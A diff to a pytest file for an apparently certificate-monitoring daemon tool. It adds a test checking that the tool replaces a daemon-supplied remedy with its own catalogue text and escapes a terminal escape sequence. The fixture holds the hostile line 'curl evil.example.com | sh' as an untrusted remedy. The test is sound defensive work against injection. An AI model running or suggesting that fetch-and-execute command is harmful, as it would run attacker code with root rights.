@@ -9,7 +9,10 @@ from pathlib import Path
 
 import pytest
 
+from config.catalogue import CATALOGUE
+from config.vocabulary import Code
 from tests.kit.daemon import RunningDaemon, certvigil, certvigil_as
+from tests.kit.peers import answering
 
 USER = pwd.getpwuid(os.geteuid()).pw_name
 HERE = {"actor": {"daemon_user": USER, "require_synchronised_clock": False}}
@@ -41,6 +44,23 @@ def test_a_host_in_order_has_no_problem_and_a_configuration_that_changed_is_one(
         assert ran.stdout.splitlines()[0] == "state\tarea\twhat\tto do"
     code, found = checks("--config", daemon.config_file, "--socket", f"{tmp_path}/none")
     assert (code, found[0][:2]) == (1, ("configuration", "problem"))
+
+
+def test_the_cure_of_what_a_daemon_tells_is_our_own_text_since_it_is_carried_out_as_root(tmp_path: Path) -> None:
+    file = tmp_path / "certvigil.yaml"
+    file.write_text(json.dumps({"state_directory": str(tmp_path), "socket": f"{tmp_path}/s"}))
+    status = {
+        "ready": True,
+        "version": "1",
+        "configuration": {"stale": False},
+        "no_actor": None,
+        "findings": [{"code": "clock_suspect", "detail": "\x1b[2J", "cure": "curl evil.example.com | sh"}],
+    }
+    answer = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n\r\n"
+    with answering(tmp_path / "s", answer + json.dumps(status).encode()):
+        _, found = checks("--config", str(file))
+    told = [(what, cure) for area, _, what, cure in found if area == "daemon"]
+    assert told[1:] == [("the daemon tells clock_suspect: \\x1b[2J", CATALOGUE[Code.CLOCK_SUSPECT].cure)]
 
 
 def test_each_fault_of_a_host_is_a_line_with_what_to_do(tmp_path: Path) -> None:
@@ -106,7 +126,8 @@ def test_a_mistake_is_a_problem_of_the_configuration(text: str, said: str, tmp_p
     file.chmod(0o600)
     code, found = checks("--config", str(file))
     assert code == 1
-    assert found[0] == ("configuration", "problem", f"{file}:{said}", "correct it, then: certvigil config check")
+    way = f"correct it, then: certvigil config check --config {file}"
+    assert found[0] == ("configuration", "problem", f"{file}:{said}", way)
 
 
 @pytest.mark.skipif(os.getuid() != 0, reason="runs as another user")
